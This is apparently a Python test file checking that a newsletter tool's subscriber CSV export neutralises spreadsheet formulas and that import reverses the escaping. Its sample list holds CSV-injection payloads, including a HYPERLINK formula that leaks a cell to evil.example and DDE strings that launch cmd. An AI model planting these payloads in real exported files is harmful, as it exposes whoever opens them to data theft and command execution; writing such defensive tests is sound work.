"""Issue 13 item 11: `digest subscribers export` writes no spreadsheet formulas.

Cells starting with =, +, -, @, tab or CR (the OWASP CSV-injection rule) are written with a
leading `'`, which spreadsheets show as text; `digest subscribers import` drops that one `'`
again, so an export reads back as what was exported. The round trip is checked through the real
commands and files, and the escaping rule for every string (hypothesis).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from digest.cli.main import main
from digest.ingest.subscribers import FORMULA_STARTS, iter_csv, neutralise_cell, restore_cell
from digest.model.types import Subscriber, SubscriberStatus
from digest.store import Store

NOW = datetime(2026, 12, 1, 7, 0, tzinfo=UTC)
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'Tis the season",  # a real leading quote survives the round trip
    "''=already quoted",
]
HOSTILE_ADDRESSES = ["=1+2@example.org", "-dash@example.org", "+plus@example.org"]


def run(config: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, [*args, "--config", str(config)])
    return result.exit_code, result.output


def test_export_neutralises_formulas_and_import_reads_them_back(project: Path) -> None:
    config = project / "config.yaml"
    for path in (project / "subscribers").iterdir():
        path.unlink()  # only the hostile rows below
    store = Store(project / "var" / "digest.sqlite3")
    people = [
        Subscriber(email=f"p{n}@example.org", name=name, sections=(f"-{n}",), format="html")
        for n, name in enumerate(HOSTILE_NAMES)
    ] + [Subscriber(email=address, name="=cmd") for address in HOSTILE_ADDRESSES]
    store.sync_subscribers(people, NOW)
    store.set_subscriber_status("p0@example.org", SubscriberStatus.UNSUBSCRIBED, NOW)
    before = {s.email: s for s in store.iter_subscribers()}

    exported = project / "export.csv"
    code, out = run(config, "subscribers", "export", "-o", str(exported))
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(exported.read_text(encoding="utf-8"))))
    assert rows[0][0] == "email"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row  # nothing a spreadsheet would run
    assert ["'" + HOSTILE_NAMES[0] in row for row in rows].count(True) == 1

    fresh = project / "fresh.yaml"  # the same project with an empty store
    fresh.write_text(config.read_text().replace("var/digest.sqlite3", "var/fresh.sqlite3"))
    code, out = run(fresh, "subscribers", "import", str(exported))
    assert code == 0, out
    after = {s.email: s for s in Store(project / "var" / "fresh.sqlite3").iter_subscribers()}
    assert set(after) == set(before)
    for email, sub in before.items():
        got = after[email]
        assert (got.name, got.sections, got.status) == (sub.name, sub.sections, sub.status), email


def test_tab_and_carriage_return_cells_are_neutralised() -> None:
    # Names read from files lose control characters, but the store may hold other values.
    text = "".join(iter_csv([Subscriber(email="a@example.org", name="\tx", sections=("\rA",))]))
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[0] == "email" and row[1] == "'\tx" and row[2] == "'\rA"


@given(st.text())
def test_neutralising_is_safe_and_reversible_for_every_string(value: str) -> None:
    written = neutralise_cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert restore_cell(written) == value
